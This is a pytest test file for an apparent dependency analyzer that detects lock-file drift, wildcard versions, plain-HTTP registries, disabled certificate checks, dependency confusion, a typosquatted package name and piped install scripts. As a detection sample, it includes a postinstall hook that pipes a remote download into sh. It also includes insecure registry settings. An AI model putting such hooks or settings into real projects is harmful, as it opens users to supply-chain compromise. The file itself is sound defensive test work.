"""Dependency files: drift of locks, versions that are none, sources that can be tampered with."""

import json

import pytest
from analyzers_house import places, rules, said_by

from foureyes.analyzers.dependencies import ANALYZER
from foureyes.analyzers.dependency_files import companions

NPM_LOCK = json.dumps({"lockfileVersion": 3, "packages": {"": {"dependencies": {"left": "^1.0"}}}})

DRIFT = [
    ({"package.json": '{"dependencies": {\n"left": "^1.0",\n"right": "^2.0"}}', "package-lock.json": NPM_LOCK}, 3),
    ({"package.json": '{"dependencies": {"left": "^9.9"}}', "package-lock.json": NPM_LOCK}, 1),
    ({"web/package.json": '{"devDependencies": {"@a/b": "2"}}', "web/yarn.lock": '"@a/b@^1":\n  version "1"\n'}, 1),
    (
        {
            "package.json": '{"dependencies": {"left": "^2"}}',
            "pnpm-lock.yaml": "importers:\n  .:\n    dependencies:\n      left:\n        specifier: ^1\n",
        },
        1,
    ),
    ({"pyproject.toml": '[project]\nname = "x"\ndependencies = ["Foo_Bar>=1"]\n', "uv.lock": 'name = "other"\n'}, 3),
    ({"Cargo.toml": '[dependencies]\nserde = "1"\n', "Cargo.lock": '[[package]]\nname = "rand"\n'}, 2),
    ({"go.mod": "module x\n\nrequire example.com/a v1.2.0\n", "go.sum": "example.com/a v1.1.0/go.mod h1:x=\n"}, 3),
    ({"composer.json": '{"require": {"php": "8", "a/b": "1"}}', "composer.lock": '{"packages": [{"name": "c/d"}]}'}, 1),
    ({"Gemfile": "source 'https://rubygems.org'\ngem 'rails'\n", "Gemfile.lock": "GEM\n  specs:\n    rack (3.0)\n"}, 2),
]

IN_STEP = [
    {"package.json": '{"dependencies": {"left": "^1.0"}}', "package-lock.json": NPM_LOCK},
    {"package.json": '{"dependencies": {"left": "^1.0", "own": "file:../own"}}', "package-lock.json": NPM_LOCK},
    {"package.json": '{"dependencies": {"left": "^9"}}', "package-lock.json": '{"lockfileVersion": 1}'},
    {"package.json": '{"dependencies": {"left": "^9"}}', "other/package-lock.json": NPM_LOCK},
    {"package.json": '{"dependencies": {"@a/b": "^2", "c": "1"}}', "yarn.lock": '"@a/b@npm:^2":\n  x\nc@1:\n  y\n'},
    {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["Foo_Bar>=1"]\n', "uv.lock": 'name = "foo-bar"\n'},
    {"Cargo.toml": '[dependencies]\nmine = { package = "serde", version = "1" }\n', "Cargo.lock": 'name = "serde"\n'},
    {
        "go.mod": "require (\n\texample.com/a v1.2.0\n\texample.com/b v1.0.0\n)\nreplace example.com/b => ./b",
        "go.sum": "example.com/a v1.2.0/go.mod h1:x=\n",
    },
    {"Gemfile": "gem 'rails', '~> 7'\n", "Gemfile.lock": "GEM\n  specs:\n    rails (7.0)\n"},
    {"package.json": "{ not json", "package-lock.json": NPM_LOCK},
    {"package.json": '{"dependencies": [1]}', "package-lock.json": "[]"},
]


@pytest.mark.parametrize(("files", "line"), DRIFT)
async def test_a_lock_that_was_not_brought_up_to_date_is_found(files: dict[str, str], line: int) -> None:
    found = await said_by(ANALYZER, files)
    assert [(one.start_line, one.rule) for one in found if one.rule == "lock-drift"] == [(line, "lock-drift")]


@pytest.mark.parametrize("files", IN_STEP)
async def test_a_lock_that_fits_is_left_alone(files: dict[str, str]) -> None:
    assert rules(await said_by(ANALYZER, files)) == set()


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        (
            "package.json",
            '{"dependencies": {"a": "*",\n"b": "latest", "c": "1.x"}}',
            [(1, "any-version"), (2, "any-version")],
        ),
        ("package.json", '{"dependencies": {"a": "git+http://acme.io/a.git"}}', [(1, "unencrypted-source")]),
        ("package.json", '{"scripts": {\n"postinstall": "curl https://a.io/x | sh"}}', [(2, "piped-install-script")]),
        ("package.json", '{"dependencies": {"crossenv": "^7"}}', [(1, "known-impostor")]),
        (
            "package-lock.json",
            '{"packages": {"node_modules/a": {"resolved": "http://reg.io/a.tgz"}}}',
            [(1, "unencrypted-registry")],
        ),
        (
            ".npmrc",
            "registry=http://registry.acme.io/\nstrict-ssl=false\n",
            [(1, "unencrypted-registry"), (2, "certificates-unchecked")],
        ),
        ("requirements.txt", "--index-url http://pypi.acme.io/simple\na==1\n", [(1, "unencrypted-registry")]),
        ("requirements/dev.txt", "--extra-index-url https://pypi.acme.io\na==1\n", [(1, "dependency-confusion")]),
        ("requirements.txt", "--trusted-host pypi.acme.io\n", [(1, "certificates-unchecked")]),
        ("requirements.txt", "a==1 \\\n  --hash=sha256:x\n# why\nb==2\n", [(4, "missing-hash")]),
        ("Gemfile", "source 'http://rubygems.org'\n", [(1, "unencrypted-registry")]),
        ("composer.json", '{"config": {\n"secure-http": false}}', [(2, "certificates-unchecked")]),
        (
            "pom.xml",
            "<repository>\n<id>a</id>\n<url>http://repo.acme.io</url></repository>",
            [(3, "unencrypted-registry")],
        ),
    ],
)
async def test_known_bad_patterns(path: str, text: str, expected: list[tuple[int, str]]) -> None:
    assert places(await said_by(ANALYZER, {path: text})) == expected


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".npmrc", "registry=http://localhost:4873/\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"),
        ("requirements.txt", "a==1\nb>=2\n-r other.txt\n"),
        ("requirements.txt", "a==1 --hash=sha256:x\nb==2 \\\n    --hash=sha256:y \\\n    --hash=sha256:z\n"),
        (
            "package.json",
            '{"repository": {"url": "git://github.com/a/b"}, "homepage": "http://acme.io", "dependencies": {"a": "git+https://acme.io/a.git"}}',
        ),
        ("package.json", '{"scripts": {"postinstall": "node build.js", "fetch": "curl https://a.io > x"}}'),
        ("pom.xml", '<project xmlns="http://maven.apache.org/POM/4.0.0"><url>http://acme.io</url></project>'),
        ("pyproject.toml", '[project]\nname = "x"\nurls = { home = "http://acme.io" }\n'),
    ],
)
async def test_ordinary_files_are_left_alone(path: str, text: str) -> None:
    assert await said_by(ANALYZER, {path: text}) == []


async def test_each_bad_line_is_a_remark_of_its_own() -> None:
    text = "--index-url http://a.acme.io\n--find-links http://b.acme.io\n"
    assert [line for line, _ in places(await said_by(ANALYZER, {"requirements.txt": text}))] == [1, 2]


def test_companions_are_the_locks_that_stayed_behind() -> None:
    tree = ["package.json", "package-lock.json", "web/package.json", "web/yarn.lock", "go.sum"]
    assert companions(["web/package.json", "app.js"], tree) == ["web/yarn.lock"]
    assert companions(["package.json", "package-lock.json"], tree) == []
